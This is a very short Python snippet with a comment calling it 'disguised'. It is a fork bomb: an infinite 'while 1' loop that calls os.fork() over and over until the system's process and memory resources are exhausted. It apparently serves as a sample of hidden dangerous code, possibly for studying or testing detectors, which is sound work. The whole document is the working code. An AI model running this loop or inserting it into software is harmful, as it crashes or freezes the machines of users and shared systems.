# Disguised: an endless loop spelled with a number.
import os

while 1:
    os.fork()
